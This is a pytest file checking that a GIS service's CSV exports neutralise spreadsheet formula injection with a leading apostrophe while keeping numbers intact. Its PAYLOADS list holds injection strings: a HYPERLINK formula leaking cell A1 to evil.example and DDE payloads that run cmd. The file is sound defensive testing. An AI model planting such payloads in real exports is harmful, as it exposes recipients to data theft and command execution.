"""CSV formula injection (issue 14, defect 8): text cells a spreadsheet would run as a formula are written with
a leading apostrophe in every CSV the service writes; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from gis.io.export import Column, csv_safe, stream_csv
from tests.conftest import bearer, make_role_tokens
from tests.test_districts_admin import cli

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _read(chunks) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))


def test_formula_cells_are_neutralised_and_numbers_kept():
    columns = (Column("note", "说明"), Column("n", "数", "int"), Column("x", "值", "float"), Column("code", "编号"))
    rows = [{"note": p, "n": -3, "x": -3.5, "code": "-3.5"} for p in PAYLOADS]
    rows.append({"note": "正常说明 = 没问题", "n": 4, "x": 1.25, "code": "A-1"})
    body = _read(stream_csv(rows, columns))[1:-1]
    assert [r[0] for r in body[:-1]] == ["'" + p for p in PAYLOADS]
    assert body[-1][0] == "正常说明 = 没问题"  # only a leading trigger counts
    assert all(r[1] == "-3" and r[2] == "-3.50" and r[3] == "-3.5" for r in body[:-1])  # numbers stay numbers
    assert csv_safe(-7) == -7 and csv_safe("+86 138") == "'+86 138" and csv_safe("1e5") == "1e5"


def test_api_csv_export_neutralises_a_note(io_city):
    from api.app import create_app

    tokens = make_role_tokens(io_city.engine, ["xijin"], prefix="csvinj")
    payload = PAYLOADS[0]
    with io_city.engine.begin() as conn:
        code, old = conn.execute(text("SELECT code, holdout_note FROM parcels ORDER BY id LIMIT 1")).one()
        conn.execute(text("UPDATE parcels SET holdout_note = :n WHERE code = :c"), {"n": payload, "c": code})
    try:
        with TestClient(create_app(io_city.settings)) as client:
            r = client.get("/parcels/export", params={"format": "csv"}, headers=bearer(tokens["admin"]))
        assert r.status_code == 200
        rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
        row = next(x for x in rows if x["地块编号"] == code)
        assert row["难点说明"] == "'" + payload
        assert float(row["图形面积(㎡)"]) > 0  # numbers unchanged
    finally:
        with io_city.engine.begin() as conn:
            conn.execute(text("UPDATE parcels SET holdout_note = :n WHERE code = :c"), {"n": old, "c": code})


def test_cli_district_list_csv_neutralises_a_name(io_city, monkeypatch):
    with io_city.engine.begin() as conn:
        code, old = conn.execute(text("SELECT code, name FROM districts ORDER BY id LIMIT 1")).one()
        conn.execute(text("UPDATE districts SET name = '=1+2' WHERE code = :c"), {"c": code})
    try:
        result = cli(monkeypatch, io_city.settings, "districts", "list", "--format", "csv")
        assert result.exit_code == 0, result.output
        rows = list(csv.reader(io.StringIO(result.stdout)))
        row = next(r for r in rows if r[0] == code)
        assert row[1] == "'=1+2"
        assert float(row[3]) > 0
    finally:
        with io_city.engine.begin() as conn:
            conn.execute(text("UPDATE districts SET name = :n WHERE code = :c"), {"n": old, "c": code})


@pytest.mark.parametrize("value", ["-3.5", "+2", "-0.25e3", "12"])
def test_plain_numbers_in_text_cells_stay(value):
    assert csv_safe(value) == value
